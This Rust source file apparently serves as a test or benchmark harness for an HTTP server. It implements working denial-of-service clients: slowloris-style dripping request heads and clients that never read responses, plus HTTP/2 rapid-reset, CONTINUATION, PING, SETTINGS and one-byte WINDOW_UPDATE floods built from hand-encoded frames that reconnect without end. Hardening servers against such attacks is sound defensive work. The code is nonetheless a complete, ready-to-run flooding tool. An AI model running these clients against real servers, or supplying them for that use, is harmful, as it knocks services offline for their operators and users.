//! Clients that mean harm, as bytes on sockets. It needs nothing but tokio, so that the benchmark can
//! use it as well.

use std::net::SocketAddr;
use std::time::Duration;

use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::{TcpSocket, TcpStream};
use tokio::task::JoinSet;
use tokio::time::{sleep, timeout};

/// An attack.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Attack {
    /// Connections whose head drips and never ends.
    HalfOpen,
    /// Clients that ask for a long stream and read nothing.
    ReadsNothing,
    /// HTTP/2: requests that are reset as soon as they are sent.
    RapidReset,
    /// HTTP/2: a head that goes on and on.
    Continuation,
    /// HTTP/2: pings.
    Pings,
    /// HTTP/2: settings.
    Settings,
    /// HTTP/2: window updates of one byte.
    WindowUpdates,
}

impl Attack {
    pub const ALL: [Self; 7] = [
        Self::HalfOpen,
        Self::ReadsNothing,
        Self::RapidReset,
        Self::Continuation,
        Self::Pings,
        Self::Settings,
        Self::WindowUpdates,
    ];

    pub const fn name(self) -> &'static str {
        match self {
            Self::HalfOpen => "half-open",
            Self::ReadsNothing => "reads nothing",
            Self::RapidReset => "rapid reset",
            Self::Continuation => "CONTINUATION",
            Self::Pings => "PING",
            Self::Settings => "SETTINGS",
            Self::WindowUpdates => "WINDOW_UPDATE",
        }
    }

    /// How many clients the full attack has.
    pub const fn clients(self) -> usize {
        match self {
            Self::HalfOpen => 10_000,
            Self::ReadsNothing => 1_000,
            Self::RapidReset | Self::Continuation | Self::Pings | Self::Settings | Self::WindowUpdates => 16,
        }
    }

    /// Starts the clients. They go on until the set is dropped; a flood that is cut off begins anew.
    /// `body` is what asks for a long stream.
    pub async fn begin(self, address: SocketAddr, clients: usize, body: &str) -> JoinSet<()> {
        let mut attack = JoinSet::new();
        for n in 0..clients {
            let body = body.to_owned();
            attack.spawn(async move {
                match self {
                    Self::HalfOpen => drip(address, n).await,
                    Self::ReadsNothing => sit(address, &body).await,
                    Self::RapidReset
                    | Self::Continuation
                    | Self::Pings
                    | Self::Settings
                    | Self::WindowUpdates => loop {
                        flood(self, address).await;
                        sleep(Duration::from_millis(20)).await;
                    },
                }
            });
            // Faster than a listener can accept, the kernel would refuse them.
            if n % 64 == 63 {
                sleep(Duration::from_millis(5)).await;
            }
        }
        attack
    }
}

/// A head that drips, again and again.
async fn drip(address: SocketAddr, n: usize) {
    const BEGINNINGS: [&str; 4] = [
        "",
        "P",
        "POST /v1/chat/completions HTTP/1.1\r\nhost: localhost\r\n",
        "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
    ];
    loop {
        if let Ok(mut stream) = TcpStream::connect(address).await {
            let mut sent = stream.write_all(BEGINNINGS[n % 4].as_bytes()).await;
            while sent.is_ok() {
                sleep(Duration::from_secs(2)).await;
                if n % 4 == 2 {
                    sent = stream.write_all(b"x-more: 1\r\n").await;
                } else if matches!(
                    timeout(Duration::ZERO, stream.read(&mut [0; 64])).await,
                    Ok(Ok(0) | Err(_))
                ) {
                    break;
                }
            }
        }
        sleep(Duration::from_millis(200)).await;
    }
}

/// Asks for a long stream with a small window, and reads nothing of it.
async fn sit(address: SocketAddr, body: &str) {
    loop {
        let Ok(socket) = TcpSocket::new_v4() else { return };
        let _small = socket.set_recv_buffer_size(4096);
        if let Ok(mut stream) = socket.connect(address).await {
            let request = format!(
                "POST /v1/chat/completions HTTP/1.1\r\nhost: localhost\r\ncontent-type: application/json\r\ncontent-length: {}\r\n\r\n{body}",
                body.len()
            );
            if stream.write_all(request.as_bytes()).await.is_ok() {
                // It is cut off after a while; a write finds that out.
                while stream.writable().await.is_ok() {
                    sleep(Duration::from_secs(5)).await;
                    if stream.try_write(b"\r\n").is_err() {
                        break;
                    }
                }
            }
        }
        sleep(Duration::from_millis(200)).await;
    }
}

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).unwrap_or_default().to_be_bytes();
    let [a, b, c, d] = stream.to_be_bytes();
    [&[length[1], length[2], length[3], kind, flags, a, b, c, d], payload].concat()
}

/// One connection's worth of an attack, until it is cut off. Gives the bytes that were taken.
pub async fn flood(attack: Attack, address: SocketAddr) -> u64 {
    const HEADERS: u8 = 0x1;
    const RESET: u8 = 0x3;
    const SETTINGS: u8 = 0x4;
    const PING: u8 = 0x6;
    const WINDOW_UPDATE: u8 = 0x8;
    const CONTINUATION: u8 = 0x9;
    let Ok(mut stream) = TcpStream::connect(address).await else { return 0 };
    let hello = [b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec(), frame(SETTINGS, 0, 0, &[])].concat();
    // GET http://a/
    let head = [0x82, 0x84, 0x86, 0x41, 1, b'a'];
    // A header field without indexing: name `x`, value `y`.
    let field = [0x00, 1, b'x', 1, b'y'];
    let mut next = 1;
    let mut piece = |first: bool| -> Vec<u8> {
        match attack {
            Attack::Pings => frame(PING, 0, 0, &[7; 8]).repeat(64),
            Attack::Settings => frame(SETTINGS, 0, 0, &[0, 3, 0, 0, 0, 100]).repeat(64),
            Attack::WindowUpdates => frame(WINDOW_UPDATE, 0, 0, &[0, 0, 0, 1]).repeat(64),
            Attack::Continuation if first => frame(HEADERS, 1, 1, &head),
            Attack::Continuation => frame(CONTINUATION, 0, 1, &field.repeat(100)),
            Attack::RapidReset | Attack::HalfOpen | Attack::ReadsNothing => {
                let mut out = Vec::new();
                for _ in 0..32 {
                    out.extend(frame(HEADERS, 5, next, &head));
                    out.extend(frame(RESET, 0, next, &[0, 0, 0, 8]));
                    next += 2;
                }
                out
            }
        }
    };
    let (mut read, mut write) = stream.split();
    let mut taken = 0;
    let send = async {
        let mut bytes = hello;
        bytes.extend(piece(true));
        while write.write_all(&bytes).await.is_ok() {
            taken += bytes.len() as u64;
            bytes = piece(false);
        }
    };
    let mut space = vec![0; 16 * 1024];
    let drink = async { while read.read(&mut space).await.is_ok_and(|n| n > 0) {} };
    // Its end is seen by whichever comes first.
    tokio::select! {
        () = send => {}
        () = drink => {}
    }
    taken
}
